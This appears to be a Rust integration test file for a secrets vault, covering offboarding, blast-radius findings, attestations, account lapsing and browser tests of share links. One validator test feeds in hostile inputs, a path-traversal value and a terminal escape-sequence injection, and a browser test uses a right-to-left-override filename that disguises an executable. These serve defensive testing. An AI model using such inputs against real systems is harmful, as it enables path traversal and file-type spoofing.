    assert_eq!(status, 200, "{third}");
    assert_ne!(third["due"], report["attestation"]["due"]);
    let third = token_of(&third);
    assert_eq!(info(&second).0, 410);
    s.clock.advance_secs(8 * DAY);
    assert_eq!(
        s.runtime
            .block_on(s.state.sweep())
            .unwrap()
            .attestations_overdue,
        0
    );
    // The vendor's record shows the one link that works, pending, then what was signed.
    let shown = |s: &Server| s.ok("GET", "/api/v1/vendors/acme", Some(&s.admin), None);
    let attestations = shown(&s)["attestations"].clone();
    assert_eq!(
        attestations.as_array().map(Vec::len),
        Some(1),
        "{attestations}"
    );
    assert_eq!(attestations[0]["status"], "pending", "{attestations}");
    let (status, signed) = sign(&third);
    assert_eq!(status, 200, "{signed}");
    let attestations = shown(&s)["attestations"].clone();
    assert_eq!(attestations[0]["status"], "submitted", "{attestations}");
    assert_eq!(
        attestations[0]["signed"]["action"], "destroyed",
        "{attestations}"
    );
    assert_eq!(
        attestations[0]["signed"]["sha256"], signed["sha256"],
        "{attestations}"
    );
    assert!(
        attestations[0]["signed"]["client_ip"].is_null(),
        "{attestations}"
    );
    assert!(
        !attestations.to_string().contains(&third),
        "a link token in the vendor's record"
    );

    // Nothing to replace once signed, nor for a vendor never offboarded; a bad deadline
    // changes nothing.
    let (status, body) = reissue("acme", json!({}));
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (409, Some("already_attested"))
    );
    assert_eq!(reissue("beta", json!({})).0, 404);
    assert_eq!(reissue("acme", json!({ "within": "0d" })).0, 400);
    assert_eq!(reissue("nobody", json!({})).0, 404);
    let recorded = s.recorded("attestation.reissue", "acme");
    assert_eq!(recorded.len(), 2);
    let ledger = s.ledger().iter().map(Value::to_string).collect::<String>();
    for token in [&first, &second, &third] {
        assert!(
            !ledger.contains(token.as_str()),
            "a link token in the ledger"
        );
    }
}

#[test]
fn offboarding_a_person_destroys_the_share_links_they_made_with_the_access_cut() {
    let s = Server::start();
    let mo = s.person("mo", "member", None);
    let mo_t = s.login(&mo);
    let (link, key) = share_text(&s, &mo_t, "from-mo-Hk40", json!({}));
    s.ok(
        "POST",
        "/api/v1/people/mo/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "left the project" })),
    );
    assert_eq!(open(&s, &link, &key, None, None).0, 404);
    let entries = s.ledger();
    let offboard = entries
        .iter()
        .position(|e| e["action"] == "person.offboard")
        .expect("person.offboard recorded");
    let revoked: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "share.revoke" && e["resource"] == link.as_str())
        .collect();
    assert_eq!(revoked.len(), 1, "{revoked:?}");
    assert_eq!(revoked[0]["details"]["why"], "offboarding");
    // Recorded right after the access cut.
    assert_eq!(
        revoked[0]["seq"].as_u64().unwrap(),
        entries[offboard]["seq"].as_u64().unwrap() + 1
    );
}

#[test]
fn offboarding_a_vendor_cuts_access_and_reports_exactly_its_blast_radius() {
    let s = Server::start();
    vendor(&s, "acme");
    vendor(&s, "beta");
    let ann = s.person("ann", "member", None);
    let cy = s.person("cy", "contractor", Some("acme"));
    let cz = s.person("cz", "contractor", Some("acme"));
    let cb = s.person("cb", "contractor", Some("beta"));
    s.ok(
        "PUT",
        "/api/v1/vendors/acme",
        Some(&s.admin),
        Some(json!({ "contacts": [{ "name": "Ada", "email": "ada@acme.example" }] })),
    );
    s.ok(
        "POST",
        "/api/v1/vendors/acme/agreements",
        Some(&s.admin),
        Some(json!({ "kind": "dpa", "signed": "2026-01-01",
                     "clauses": { "termination_data": "destroy", "termination_data_days": 14 } })),
    );
    write(&s, "acme/app/db", "app-db-v1-Hk27");
    write(&s, "acme/app/db", "app-db-v2-Hk28");
    s.ok(
        "PUT",
        "/api/v1/secrets/metadata/acme/app/db",
        Some(&s.admin),
        Some(json!({ "custom_metadata": { "owner": "ann" } })),
    );
    write(&s, "acme/app/api", "app-api-Jm38");
    write(&s, "acme/ci/token", "ci-token-Rt20");
    // An auditor reads findings but does not change them: named as a secret's owner (as a
    // contractor under a write grant could name one), they are not given its finding.
    let aud = s.person("aud", "auditor", None);
    let sam = s.person("sam", "security", None);
    s.ok(
        "PUT",
        "/api/v1/secrets/metadata/acme/ci/token",
        Some(&s.admin),
        Some(json!({ "custom_metadata": { "owner": "aud" } })),
    );
    write(&s, "beta/app/db", "beta-db-Ws61");
    write(&s, "ops/root", "ops-root-Pq45");
    let grant = |who: &str, prefix: &str| {
        s.ok(
            "POST",
            "/api/v1/grants",
            Some(&s.admin),
            Some(
                json!({ "person": who, "prefix": prefix, "capabilities": ["read", "list"],
                         "ttl": "30d", "reason": "project" }),
            ),
        );
    };
    grant("cy", "acme/app");
    grant("cz", "acme/ci");
    grant("cb", "beta");
    let cy_t = s.login(&cy);
    let cz_t = s.login(&cz);
    let cb_t = s.login(&cb);
    s.ok("GET", "/api/v1/secrets/data/acme/app/db", Some(&cy_t), None);
    let api_token = s.ok(
        "POST",
        "/api/v1/auth/tokens",
        Some(&cy_t),
        Some(json!({ "ttl": "30d" })),
    )["token"]
        .as_str()
        .unwrap()
        .to_owned();
    s.remember(&api_token);
    let pending = s.ok(
        "POST",
        "/api/v1/requests",
        Some(&cz_t),
        Some(
            json!({ "prefix": "acme/app", "capabilities": ["read"], "reason": "more",
                     "duration": "1d" }),
        ),
    );
    let report = s.ok(
        "POST",
        "/api/v1/vendors/acme/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "contract ended" })),
    );
    assert_eq!(report["grants_revoked"], 2);
    assert_eq!(report["requests_closed"], 1);

    // Every token of acme's people is refused on its next request, in both APIs.
    for token in [&cy_t, &cz_t, &api_token] {
        assert_eq!(
            s.call("GET", "/api/v1/auth/self", Some(token), None, None)
                .0,
            403
        );
        assert_eq!(
            s.call("GET", "/v1/auth/token/lookup-self", Some(token), None, None)
                .0,
            403
        );
    }
    // beta is untouched.
    s.ok("GET", "/api/v1/secrets/data/beta/app/db", Some(&cb_t), None);
    let request = s.ok("GET", "/api/v1/requests", Some(&s.admin), None);
    let closed = request
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == pending["id"])
        .unwrap();
    assert_eq!(closed["status"], "cancelled");

    // The blast radius: exactly what they read or held a grant for.
    let mut radius: Vec<(String, Value, Value)> = report["blast_radius"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_owned(),
                e["versions_read"].clone(),
                e["versions_held"].clone(),
            )
        })
        .collect();
    radius.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(
        radius,
        [
            ("acme/app/api".to_owned(), json!([]), json!([1])),
            ("acme/app/db".to_owned(), json!([2]), json!([1, 2])),
            ("acme/ci/token".to_owned(), json!([]), json!([1])),
        ]
    );
    // A rotation finding for each, owned by the secret's owner where it has one.
    let findings = s.ok(
        "GET",
        "/api/v1/findings?source=offboarding",
        Some(&s.admin),
        None,
    );
    let mut subjects: Vec<&str> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["subject"].as_str().unwrap())
        .collect();
    subjects.sort();
    assert_eq!(subjects, ["acme/app/api", "acme/app/db", "acme/ci/token"]);
    let db_finding = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["subject"] == "acme/app/db")
        .unwrap()
        .clone();
    let ann_t = s.login(&ann);
    let mine = s.ok("GET", "/api/v1/findings", Some(&ann_t), None);
    assert_eq!(mine.as_array().unwrap().len(), 1);
    assert_eq!(mine[0]["id"], db_finding["id"]);
    let aud_id = s.ok("GET", "/api/v1/auth/self", Some(&s.login(&aud)), None)["person_id"].clone();
    assert!(
        findings
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["owner"] != aud_id),
        "{findings}"
    );
    // The owner is told what to rotate, in one notification.
    let told = s.ok("GET", "/api/v1/notifications", Some(&ann_t), None);
    let rotation: Vec<&Value> = told
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["kind"] == "rotation_due")
        .collect();
    assert_eq!(rotation.len(), 1, "{told}");
    assert_eq!(rotation[0]["details"]["paths"], json!(["acme/app/db"]));
    // acme has no owner, so security owns the rest (the auditor named for one is no owner).
    let sam_t = s.login(&sam);
    let sam_id = s.ok("GET", "/api/v1/auth/self", Some(&sam_t), None)["person_id"].clone();
    let told = s.ok("GET", "/api/v1/notifications", Some(&sam_t), None);
    let mut paths: Vec<&str> = told
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["kind"] == "rotation_due" && n["to"] == json!([sam_id]))
        .flat_map(|n| n["details"]["paths"].as_array().unwrap())
        .map(|p| p.as_str().unwrap())
        .collect();
    paths.sort_unstable();
    assert_eq!(paths, ["acme/app/api", "acme/ci/token"], "{told}");
    // `secret stale` shows the three as exposed; a new version rotates one.
    let stale = s.ok("GET", "/api/v1/secrets/stale", Some(&s.admin), None);
    assert_eq!(stale.as_array().unwrap().len(), 3, "{stale}");
    assert!(
        stale
            .as_array()
            .unwrap()
            .iter()
            .all(|x| x["reason"] == "exposed")
    );
    // Due when its finding is.
    let db_stale = stale
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["path"] == "acme/app/db")
        .unwrap();
    assert_eq!(db_stale["due"], db_finding["due"], "{db_stale}");
    // A new version that keeps an exposed value is no rotation: the same value again, or
    // an older exposed one put back.
    for same in ["app-db-v2-Hk28", "app-db-v1-Hk27"] {
        s.clock.advance_secs(60);
        write(&s, "acme/app/db", same);
        let sweep = s.runtime.block_on(s.state.sweep()).unwrap();
        assert_eq!(sweep.findings_resolved, 0, "{same}");
        let stale = s.ok("GET", "/api/v1/secrets/stale", Some(&s.admin), None);
        assert_eq!(stale.as_array().unwrap().len(), 3, "{stale}");
    }
    s.clock.advance_secs(60);
    write(&s, "acme/app/db", "app-db-v3-rotated");
    let sweep = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(sweep.findings_resolved, 1);
    let stale = s.ok("GET", "/api/v1/secrets/stale", Some(&s.admin), None);
    assert_eq!(stale.as_array().unwrap().len(), 2);
    let resolved = s.ok(
        "GET",
        &format!("/api/v1/findings/{}", db_finding["id"].as_str().unwrap()),
        Some(&ann_t),
        None,
    );
    assert_eq!(resolved["status"], "resolved");

    // Findings move with a note; owners may not reassign.
    let other = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["subject"] == "acme/ci/token")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        error(
            &s,
            "POST",
            &format!("/api/v1/findings/{other}"),
            &s.admin,
            Some(json!({ "status": "risk_accepted" }))
        ),
        (400, "invalid_request".into())
    );
    let accepted = s.ok(
        "POST",
        &format!("/api/v1/findings/{other}"),
        Some(&s.admin),
        Some(json!({ "status": "risk_accepted", "note": "token already expired at the CI side" })),
    );
    assert_eq!(accepted["history"].as_array().unwrap().len(), 2);
    // A closed finding only reopens; its owner cannot accept a risk.
    assert_eq!(
        error(
            &s,
            "POST",
            &format!("/api/v1/findings/{other}"),
            &s.admin,
            Some(json!({ "status": "in_progress" }))
        ),
        (409, "invalid_transition".into())
    );
    let ann_t = s.login(&ann);
    let own = format!("/api/v1/findings/{}", db_finding["id"].as_str().unwrap());
    s.ok(
        "POST",
        &own,
        Some(&ann_t),
        Some(json!({ "status": "open", "note": "the old value is still in a CI cache" })),
    );
    assert_eq!(
        error(
            &s,
            "POST",
            &own,
            &ann_t,
            Some(json!({ "status": "risk_accepted", "note": "fine" }))
        ),
        (403, "not_permitted".into())
    );

    // The attestation: terms from the DPA, signed once, recorded.
    let link = report["attestation"]["path"].as_str().unwrap();
    let token = link.trim_start_matches("/a#");
    let view = s.ok(
        "POST",
        "/api/v1/attestations/info",
        None,
        Some(json!({ "token": token })),
    );
    assert_eq!(view["status"], "pending");
    assert!(
        view["terms"]
            .as_str()
            .unwrap()
            .starts_with("destroy all of the business's data you hold within 14 days"),
        "{view}"
    );
    let sign = json!({ "token": token, "name": "Ada Lovelace", "email": "ada@acme.example",
                       "action": "destroyed", "statement": "All copies were wiped on 2027-01-20." });
    let signed = s.ok(
        "POST",
        "/api/v1/attestations/sign",
        None,
        Some(sign.clone()),
    );
    assert_eq!(signed["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(
        s.call("POST", "/api/v1/attestations/sign", None, Some(sign), None)
            .0,
        409
    );
    let recorded = s.recorded("attestation.submit", "acme");
    assert_eq!(recorded.len(), 1);
    assert_eq!(recorded[0]["details"]["sha256"], signed["sha256"]);
    assert!(
        !s.ledger().iter().any(|e| e.to_string().contains(token)),
        "the attestation token is never in the ledger"
    );

    // beta's offboarding, unattested past its due date, opens a finding.
    let beta = s.ok(
        "POST",
        "/api/v1/vendors/beta/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "vendor failed", "attest_within": "10d" })),
    );
    assert_eq!(beta["blast_radius"].as_array().unwrap().len(), 1);
    s.clock.advance_secs(11 * DAY);
    let sweep = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(sweep.attestations_overdue, 1);
    // The finding reopened by hand is not closed again by the rotation that closed it.
    assert_eq!(sweep.findings_resolved, 0);
    let overdue = s.ok(
        "GET",
        "/api/v1/findings?source=attestation",
        Some(&s.admin),
        None,
    );
    assert_eq!(overdue.as_array().unwrap().len(), 1);
    // Its owner is told of it (security when it has none; here nobody is in security).
    let told = s.ok("GET", "/api/v1/notifications", Some(&s.admin), None);
    let notice = told
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["kind"] == "attestation_overdue")
        .unwrap_or_else(|| panic!("{told}"));
    assert_eq!(notice["details"]["finding_id"], overdue[0]["id"]);
    let offboarding_findings = |s: &Server| {
        s.ok(
            "GET",
            "/api/v1/findings?source=offboarding",
            Some(&s.admin),
            None,
        )
        .as_array()
        .unwrap()
        .len()
    };
    assert_eq!(offboarding_findings(&s), 4);
    let again = s.ok(
        "POST",
        "/api/v1/vendors/acme/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "again" })),
    );
    assert_eq!(
        again["blast_radius"].as_array().map_or(0, Vec::len),
        3,
        "offboarding an offboarding vendor terminates it"
    );
    // The two findings still open are kept; only the accepted risk gets a new one. The
    // attestation was signed: no second link.
    assert_eq!(offboarding_findings(&s), 5);
    let kept = again["blast_radius"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == "acme/app/db")
        .unwrap();
    assert_eq!(kept["finding_id"], db_finding["id"]);
    assert!(again["attestation"].is_null(), "{again}");
    s.assert_no_secret_logged();
}

#[test]
fn a_second_exposure_counts_a_rotation_from_itself_not_from_the_first() {
    let s = Server::start();
    vendor(&s, "acme");
    let alice = s.person("alice", "contractor", Some("acme"));
    let bob = s.person("bob", "contractor", Some("acme"));
    let put = |password: &str, api_key: &str| {
        s.clock.advance_secs(1);
        s.remember(password);
        s.remember(api_key);
        s.ok(
            "PUT",
            "/api/v1/secrets/data/acme/db",
            Some(&s.admin),
            Some(json!({ "data": { "password": password, "api_key": api_key } })),
        );
    };
    put("P3-Zq81-first", "K3-Lm02-first");
    for person in ["alice", "bob"] {
        s.ok(
            "POST",
            "/api/v1/grants",
            Some(&s.admin),
            Some(
                json!({ "person": person, "prefix": "acme", "capabilities": ["read"],
                         "ttl": "30d", "reason": "project" }),
            ),
        );
    }
    let read = |person: &common::Person| {
        let token = s.login(person);
        s.ok("GET", "/api/v1/secrets/data/acme/db", Some(&token), None);
    };
    let offboard = |name: &str| {
        s.clock.advance_secs(1);
        s.ok(
            "POST",
            &format!("/api/v1/people/{name}/offboard"),
            Some(&s.admin),
            Some(json!({ "reason": "left the project" })),
        )
    };
    let resolved = || {
        s.clock.advance_secs(1);
        s.runtime
            .block_on(s.state.sweep())
            .unwrap()
            .findings_resolved
    };
    read(&alice);
    let first = offboard("alice");
    let finding = first["blast_radius"][0]["finding_id"].clone();
    // Only the password rotated: the api key alice read still stands.
    put("P4-Zq81-second", "K3-Lm02-first");
    assert_eq!(resolved(), 0);
    // Bob reads the new password, and is offboarded while the finding is open.
    read(&bob);
    let second = offboard("bob");
    assert_eq!(second["blast_radius"][0]["finding_id"], finding);
    // The api key rotates: everything alice saw is gone, but not the password bob saw.
    put("P4-Zq81-second", "K5-Lm02-third");
    assert_eq!(resolved(), 0, "bob knows the live password");
    put("P6-Zq81-third", "K5-Lm02-third");
    assert_eq!(resolved(), 1);
}

/// A value put back after the version that held it was pruned (or destroyed) is no
/// rotation: a version the finding names that no longer opens leaves it to a person.
#[test]
fn an_old_value_put_back_after_its_version_was_pruned_is_no_rotation() {
    let s = Server::start();
    vendor(&s, "acme");
    let cody = s.person("cody", "contractor", Some("acme"));
    let put = |password: &str| {
        s.clock.advance_secs(1);
        s.remember(password);
        s.ok(
            "PUT",
            "/api/v1/secrets/data/acme/svc",
            Some(&s.admin),
            Some(json!({ "data": { "password": password } })),
        );
    };
    s.ok(
        "PUT",
        "/api/v1/secrets/metadata/acme/svc",
        Some(&s.admin),
        Some(json!({ "max_versions": 2 })),
    );
    put("OldPass-P1-aaaaaaaa");
    s.ok(
        "POST",
        "/api/v1/grants",
        Some(&s.admin),
        Some(
            json!({ "person": "cody", "prefix": "acme", "capabilities": ["read"],
                     "ttl": "30d", "reason": "project" }),
        ),
    );
    let token = s.login(&cody);
    s.ok("GET", "/api/v1/secrets/data/acme/svc", Some(&token), None);
    put("NewPass-P2-bbbbbbbb");
    s.clock.advance_secs(1);
    let report = s.ok(
        "POST",
        "/api/v1/people/cody/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "left the project" })),
    );
    let finding = report["blast_radius"][0]["finding_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // The value cody read is written again; the write prunes version 1.
    put("OldPass-P1-aaaaaaaa");
    s.clock.advance_secs(1);
    let sweep = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(sweep.findings_resolved, 0);
    let shown = s.ok(
        "GET",
        &format!("/api/v1/findings/{finding}"),
        Some(&s.admin),
        None,
    );
    assert_eq!(shown["status"], "open", "{shown}");
}

#[test]
fn a_secret_an_offboarded_person_wrote_is_in_the_blast_radius() {
    let s = Server::start();
    vendor(&s, "acme");
    let cy = s.person("cy", "contractor", Some("acme"));
    // A write-only grant: cy sets the deploy key and never reads it back.
    s.ok(
        "POST",
        "/api/v1/grants",
        Some(&s.admin),
        Some(
            json!({ "person": "cy", "prefix": "acme/deploy", "capabilities": ["write"],
                     "ttl": "30d", "reason": "set up the pipeline" }),
        ),
    );
    let cy_t = s.login(&cy);
    s.remember("deploy-key-Xv93");
    s.ok(
        "PUT",
        "/api/v1/secrets/data/acme/deploy/key",
        Some(&cy_t),
        Some(json!({ "data": { "key": "deploy-key-Xv93" } })),
    );
    let report = s.ok(
        "POST",
        "/api/v1/people/cy/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "left the project" })),
    );
    let blast = report["blast_radius"].as_array().unwrap();
    assert_eq!(blast.len(), 1, "{report}");
    assert_eq!(blast[0]["path"], "acme/deploy/key");
    assert_eq!(blast[0]["versions_written"], json!([1]));
    assert_eq!(blast[0]["versions_read"], json!([]));
    assert!(
        blast[0]["finding_id"]
            .as_str()
            .is_some_and(|f| !f.is_empty())
    );
}

#[test]
fn a_secret_shared_with_an_offboarded_person_is_in_the_blast_radius() {
    let s = Server::start();
    vendor(&s, "acme");
    write(&s, "team/db", "team-db-Rq55");
    let ann = s.person("ann", "member", None);
    let cy = s.person("cy", "contractor", Some("acme"));
    let (ann_t, cy_t) = (s.login(&ann), s.login(&cy));
    // Shared from the vault, for cy alone, who has no grant on it; and a plain note.
    let (id, key) = share_text(
        &s,
        &ann_t,
        "team-db-Rq55",
        json!({ "recipient": "cy", "source": "secret:team/db@1" }),
    );
    let (note, note_key) = share_text(&s, &ann_t, "a note", json!({ "recipient": "cy" }));
    assert_eq!(open(&s, &id, &key, Some(&cy_t), None).0, 200);
    assert_eq!(open(&s, &note, &note_key, Some(&cy_t), None).0, 200);
    let report = s.ok(
        "POST",
        "/api/v1/people/cy/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "left the project" })),
    );
    let blast = report["blast_radius"].as_array().unwrap();
    assert_eq!(blast.len(), 1, "{report}");
    assert_eq!(blast[0]["path"], "team/db");
    assert_eq!(blast[0]["versions_read"], json!([1]));
}

#[test]
fn a_share_names_as_its_source_only_a_version_its_maker_may_read() {
    let s = Server::start();
    write(&s, "team/db", "team-db-Hw40");
    write(&s, "fin/key", "fin-key-Uy71");
    s.ok(
        "PUT",
        "/api/v1/classifications",
        Some(&s.admin),
        Some(json!({ "prefix": "fin", "level": "regulated" })),
    );
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let create = |source: &str| {
        s.call(
            "POST",
            "/api/v1/shares",
            Some(&ann_t),
            Some(json!({ "label": "t", "size": 41, "source": source })),
            None,
        )
    };
    assert_eq!(create("text").0, 200);
    assert_eq!(create("file").0, 200);
    assert_eq!(create("secret:team/db@1").0, 200);
    // A secret the maker cannot read is refused, and the refusal recorded.
    assert_eq!(
        error(&s, "GET", "/api/v1/secrets/data/fin/key", &ann_t, None).0,
        403
    );
    let (status, body) = create("secret:fin/key@1");
    assert_eq!(status, 403, "{body}");
    let refused = s
        .ledger()
        .into_iter()
        .filter(|e| e["action"] == "secret.read" && e["resource"] == "fin/key")
        .count();
    assert_eq!(refused, 2, "the read and the share each recorded");
    // A version that does not exist, and what no secret path is, are refused.
    assert_eq!(create("secret:team/db@7").0, 404);
    for bad in [
        "secret:../../etc@7",
        "secret:team/db\u{1b}[2J@1",
        "secret:team/db",
        "secret:team/db@0",
        "secret:team/db@x",
        "elsewhere",
        "",
    ] {
        let (status, body) = create(bad);
        assert_eq!(status, 400, "{bad}: {body}");
        assert_eq!(body["error"]["code"], "invalid_request", "{bad}: {body}");
    }
    let long = format!("secret:{}@1", "a/".repeat(50_000));
    assert_eq!(create(&long).0, 400);
}

#[test]
fn offboarding_checks_first_and_its_findings_reach_someone_who_can_act() {
    let s = Server::start();
    vendor(&s, "acme");
    let owner = s.person("olga", "member", None);
    let cy = s.person("cy", "contractor", Some("acme"));
    vendor(&s, "beta");
    s.person("cb", "contractor", Some("beta"));
    s.ok(
        "PUT",
        "/api/v1/vendors/acme",
        Some(&s.admin),
        Some(json!({ "owner": "olga" })),
    );
    write(&s, "acme/app/db", "app-db-v1-Hk27");
    // A contractor named as the secret's owner is no owner: contractors do not see
    // findings.
    s.ok(
        "PUT",
        "/api/v1/secrets/metadata/acme/app/db",
        Some(&s.admin),
        Some(json!({ "max_versions": 1, "custom_metadata": { "owner": "cb" } })),
    );
    s.ok(
        "POST",
        "/api/v1/grants",
        Some(&s.admin),
        Some(
            json!({ "person": "cy", "prefix": "acme/app", "capabilities": ["read"],
                     "ttl": "30d", "reason": "project" }),
        ),
    );
    let cy_t = s.login(&cy);
    s.ok("GET", "/api/v1/secrets/data/acme/app/db", Some(&cy_t), None);

    // A bad option is refused before anything is cut.
    assert_eq!(
        error(
            &s,
            "POST",
            "/api/v1/vendors/acme/offboard",
            &s.admin,
            Some(json!({ "reason": "ended", "attest_within": "two weeks" }))
        ),
        (400, "invalid_request".into())
    );
    assert_eq!(
        s.ok("GET", "/api/v1/vendors/acme", Some(&s.admin), None)["status"],
        "active"
    );
    s.ok("GET", "/api/v1/secrets/data/acme/app/db", Some(&cy_t), None);

    // A person's offboarding: the finding goes to their vendor's owner, under the vendor.
    s.ok(
        "POST",
        "/api/v1/people/cy/offboard",
        Some(&s.admin),
        Some(json!({ "reason": "left the project" })),
    );
    let olga_t = s.login(&owner);
    let mine = s.ok("GET", "/api/v1/findings", Some(&olga_t), None);
    assert_eq!(mine.as_array().unwrap().len(), 1, "{mine}");
    assert_eq!(mine[0]["subject"], "acme/app/db");
    assert_eq!(
        mine[0]["vendor_id"].as_str().map(|v| v.starts_with("ven_")),
        Some(true),
        "{mine}"
    );

    // Keeping one version, a rewrite prunes the exposed version: with nothing to compare
    // with, the finding stays open, even though the password changed nowhere.
    s.clock.advance_secs(60);
    s.ok(
        "PUT",
        "/api/v1/secrets/data/acme/app/db",
        Some(&s.admin),
        Some(json!({ "data": { "password": "app-db-v1-Hk27", "note": "moved" } })),
    );
    let sweep = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(sweep.findings_resolved, 0);
    let finding = s.ok(
        "GET",
        &format!("/api/v1/findings/{}", mine[0]["id"].as_str().unwrap()),
        Some(&olga_t),
        None,
    );
    assert_eq!(finding["status"], "open");
}

#[test]
fn accounts_lapse_at_their_end_date_and_after_idle_time() {
    let s = Server::start_with(|settings| {
        settings.notify.disable_after_inactive = Some(Duration::from_secs(30 * 86_400));
    });
    vendor(&s, "acme");
    let body =
        json!({ "name": "cy", "role": "contractor", "vendor": "acme", "ends": "2027-02-01" });
    s.ok("POST", "/api/v1/people", Some(&s.admin), Some(body));
    let idle = s.person("cz", "contractor", Some("acme"));
    let staff = s.person("ann", "member", None);
    let cz_t = s.login(&idle);
    let ann_t = s.login(&staff);
    // A request filed before the account lapses closes with it.
    let request = s.ok(
        "POST",
        "/api/v1/requests",
        Some(&cz_t),
        Some(json!({ "prefix": "acme/app", "capabilities": ["read"],
                     "reason": "deploy", "duration": "1d" })),
    );
    s.clock.advance_secs(20 * DAY);
    let report = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(report.accounts_disabled, 1, "cy's end date passed");
    s.clock.advance_secs(11 * DAY);
    let report = s.runtime.block_on(s.state.sweep()).unwrap();
    assert_eq!(
        report.accounts_disabled, 1,
        "cz has not logged in for 31 days"
    );
    assert_eq!(
        error(&s, "GET", "/api/v1/auth/self", &cz_t, None),
        (403, "person_inactive".into())
    );
    let people = s.ok("GET", "/api/v1/people", Some(&s.admin), None);
    let disabled: Vec<&str> = people
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["disabled"] == true)
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(disabled, ["cy", "cz"], "staff accounts do not lapse");
    let _ = ann_t;
    let disabled = &s.recorded("person.disable", "cz")[0];
    assert_eq!(disabled["details"]["why"], "inactive");
    assert_eq!(disabled["details"]["requests_closed"], 1);
    // Re-enabling the account brings the request back no more than a `user disable` does.
    s.ok("POST", "/api/v1/people/cz/enable", Some(&s.admin), None);
    let id = request["id"].as_str().unwrap();
    let listed = s.ok("GET", "/api/v1/requests", Some(&s.admin), None);
    let read = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == id)
        .unwrap();
    assert_eq!(read["status"], "cancelled", "{read}");

    // A request left pending while its requester cannot act (here: the vendor is
    // suspended) is not approved: a grant made now would come back with the account.
    let cz_t = s.login(&idle);
    let pending = s.ok(
        "POST",
        "/api/v1/requests",
        Some(&cz_t),
        Some(json!({ "prefix": "acme/app", "capabilities": ["read"],
                     "reason": "deploy again", "duration": "1d" })),
    );
    s.ok(
        "PUT",
        "/api/v1/vendors/acme",
        Some(&s.admin),
        Some(json!({ "status": "suspended", "reason": "audit" })),
    );
    let approve = format!(
        "/api/v1/requests/{}/approve",
        pending["id"].as_str().unwrap()
    );
    assert_eq!(
        error(&s, "POST", &approve, &s.admin, Some(json!({}))),
        (409, "requester_inactive".into())
    );
}

// ---------------------------------------------------------------------------------------
// A real browser

#[test]
fn a_browser_opens_a_share_link_and_reads_the_secret_from_the_page() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let s = Server::start();
    let ann = s.person("ann", "member", None);
    let ann_t = s.login(&ann);
    let secret = "prod-db: Kx82-Lm01-Qz55";
    let (id, key) = share_text(&s, &ann_t, secret, json!({}));
    let url = format!("{}/s/{id}#{}", s.addr, key.to_fragment().as_str());

    // The page itself: a strict policy, nothing cached, no referrer.
    let page = s.agent.get(format!("{}/s/{id}", s.addr)).call().unwrap();
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'none'"));
    assert_eq!(page.headers()["referrer-policy"], "no-referrer");

    browser.go(&url);
    browser.displayed("#reveal");
    // The key has left the address bar before anything is revealed.
    let address = browser.url();
    assert!(!address.contains('#'), "{address}");
    // A double click opens the link once: a second open would be refused (the one view is
    // spent) and its refusal would replace the secret on the page.
    browser.run("const b = document.querySelector('#reveal'); b.click(); b.click();");
    assert_eq!(browser.text("#secret"), secret);
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(browser.text("#secret"), secret);
    // Opened once: the link is used up.
    assert_eq!(open(&s, &id, &key, None, None).0, 404);

    // A file's name is shown without the characters that would disguise it: a right-to-left
    // override would show `invoice_<RLO>fdp.exe` as `invoice_exe.pdf`.
    let header = json!({ "type": "file", "name": "invoice_\u{202e}fdp.exe",
                         "media_type": "application/octet-stream" })
    .to_string();
    let (id, key) = share_content(&s, &ann_t, header.as_bytes(), b"MZ", json!({}));
    browser.go(&format!("{}/s/{id}#{}", s.addr, key.to_fragment().as_str()));
    browser.click("#reveal");
    browser.wait_text("#download", "Download invoice__fdp.exe");
    let saved = browser.run("return document.querySelector('#download').download;");
    assert_eq!(saved, "invoice__fdp.exe");
}

#[test]
fn a_browser_answers_request_and_attestation_links_without_the_token_in_any_url() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let s = Server::start();
    let ask = |path: &str, note: &str| {
        s.ok(
            "POST",
            &format!("/api/v1/secret-requests/{path}"),
            Some(&s.admin),
            Some(json!({ "note": note })),
        )["path"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let link = ask("partners/maps/api", "the Maps API key");
    let token = link
        .strip_prefix("/r#")
        .expect("the token is in the fragment");
    browser.go(&format!("{}{link}", s.addr));
    browser.wait_text("#note", "the Maps API key");
    // The token has left the address bar (and so the history) before anything is sent.
    assert_eq!(browser.url(), format!("{}/r", s.addr));
    let value = "maps-key-Zr40-Pq19";
    s.remember(value);
    browser.type_into("#field", "api_key");
    browser.type_into("#value", value);
    browser.click("#submit");
